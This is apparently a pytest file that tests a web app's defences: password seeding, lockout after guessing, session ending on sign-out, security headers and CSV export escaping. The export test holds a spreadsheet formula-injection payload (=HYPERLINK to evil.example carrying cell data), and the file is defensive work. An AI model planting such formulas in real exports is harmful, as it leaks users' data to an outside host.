"""The web app's doors, each tried the way an attacker would and shown shut: published
passwords, password guessing, a cookie kept after sign-out, framing and foreign script, a
spreadsheet formula in an export, and a REST sender posing as a WeCom member."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import update

from bot.adapters.storage import open_database
from bot.adapters.storage.accounts import DEMO_USERS, Accounts
from bot.adapters.storage.schema import users
from bot.adapters.storage.sign_in import Limits, SignIns
from harness.rasa_processes import ROOT
from tests.support.web import PASSWORD, build_world, csrf_token, sign_in
from webapp import create_app
from webapp.services import services


@pytest.fixture
def world(tmp_path, scorer):
    return build_world(tmp_path, scorer)


def _try(client, username: str, password: str):
    token = csrf_token(client)
    return client.post(
        "/login", data={"csrf_token": token, "username": username, "password": password}
    )


def test_no_account_has_a_published_password(tmp_path) -> None:
    database = open_database(f"sqlite:///{tmp_path / 'fresh.db'}")
    accounts = Accounts(database)
    assert accounts.anyone_can_sign_in() is False  # serving creates nobody
    first = accounts.seed_demo_users()
    assert set(first) == {demo.username for demo in DEMO_USERS}
    assert all(len(password) >= 12 for password in first.values())
    for username in first:  # the passwords the README used to publish
        assert accounts.authenticate(username, f"{username}-demo-2026") is None
    assert accounts.authenticate("rep1", first["rep1"]) is not None
    assert accounts.seed_demo_users() == {}  # never again once someone can sign in
    other = Accounts(open_database(f"sqlite:///{tmp_path / 'other.db'}")).seed_demo_users()
    assert other["admin"] != first["admin"]  # random, not a constant


def test_the_first_admin_is_created_from_the_command_line(tmp_path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    env = os.environ | {"DATABASE_URL": url, "SALESCOACH_ADMIN_PASSWORD": "boss-password-1"}
    made = subprocess.run(
        [sys.executable, "-m", "webapp", "create-admin", "boss"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    assert "boss-password-1" not in made.stdout  # a given password is never echoed
    env.pop("SALESCOACH_ADMIN_PASSWORD")
    second = subprocess.run(
        [sys.executable, "-m", "webapp", "create-admin", "deputy"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    shown = second.stdout.split("password (shown once): ")[1].strip()
    accounts = Accounts(open_database(url))
    assert accounts.authenticate("boss", "boss-password-1").role == "admin"
    assert accounts.authenticate("deputy", shown).role == "admin"


def test_guessing_a_password_locks_the_account_with_a_chinese_message(world) -> None:
    client = world.app.test_client()
    for _ in range(5):
        assert "用户名或密码不正确" in _try(client, "rep", "wrong-guess").get_data(as_text=True)
    locked = _try(client, "rep", PASSWORD)  # even the right password, while locked
    assert locked.status_code == 429 and "锁定 15 分钟" in locked.get_data(as_text=True)
    assert _try(client, "trainer", PASSWORD).status_code == 302  # other accounts sign in


def test_a_lockout_ends_after_its_time_and_an_address_is_limited_too(tmp_path) -> None:
    now = [datetime(2026, 12, 2, 9, 0, tzinfo=UTC)]
    database = open_database(f"sqlite:///{tmp_path / 'limits.db'}")
    sign_ins = SignIns(database, timedelta(hours=8), Limits(), clock=lambda: now[0])
    for attempt in range(5):
        assert not sign_ins.locked("wang", "10.0.0.7"), attempt
        sign_ins.failed("wang", "10.0.0.7")
    assert sign_ins.locked("wang", "10.0.0.9")  # the account, from any address
    now[0] += timedelta(minutes=16)
    assert not sign_ins.locked("wang", "10.0.0.7")
    for index in range(20):  # one address trying many names
        sign_ins.failed(f"user{index}", "10.0.0.66")
    assert sign_ins.locked("someone-else", "10.0.0.66")
    assert not sign_ins.locked("someone-else", "10.0.0.67")


def test_signing_out_ends_the_session_for_a_saved_cookie_too(world) -> None:
    client = sign_in(world.app, "rep")
    saved = client.get_cookie("salescoach_session").value
    assert client.get("/history").status_code == 200
    client.post("/logout", data={"csrf_token": csrf_token(client, "/history")})
    thief = world.app.test_client()
    thief.set_cookie("salescoach_session", saved)
    after = thief.get("/history")
    assert after.status_code == 302 and "/login" in after.headers["Location"]


def test_a_password_reset_signs_the_user_out_everywhere(world) -> None:
    client = sign_in(world.app, "rep")
    with world.app.app_context():
        services().sign_ins.close_sessions_of(world.users["rep"])
    assert client.get("/history").status_code == 302


def test_pages_cannot_be_framed_sniffed_or_made_to_run_foreign_script(world) -> None:
    page = sign_in(world.app, "rep").get("/practice")
    policy = page.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert page.headers["X-Frame-Options"] == "DENY"
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert "<script>" not in page.get_data(as_text=True)  # no inline script to allow


def test_an_export_cell_never_starts_a_live_formula(world) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with world.app.app_context(), services().database.transaction() as connection:
        connection.execute(  # a name as WeCom or an admin could have set it
            update(users).where(users.c.id == world.users["other_rep"]).values(display_name=evil)
        )
    rows = list(
        csv.reader(
            io.StringIO(
                sign_in(world.app, "admin").get("/trainer/sessions.csv").data.decode("utf-8-sig")
            )
        )
    )
    names = [row[1] for row in rows[1:]]
    assert "'" + evil in names and evil not in names


def test_without_the_chat_secret_the_chat_says_it_is_off(tmp_path) -> None:
    """A web app started without WEB_CHAT_SECRET cannot sign messages, so it sends none and
    tells the rep why instead of a connection error."""
    app = create_app(f"sqlite:///{tmp_path / 'off.db'}", secret_key="k")
    with app.app_context():
        services().accounts.create_user("solo", "独行侠", PASSWORD, "rep", None)
    client = sign_in(app, "solo")
    answer = client.post(
        "/practice/send",
        json={"message": "你好"},
        headers={"X-CSRFToken": csrf_token(client, "/practice")},
    )
    assert answer.status_code == 503 and "WEB_CHAT_SECRET" in answer.get_json()["error"]
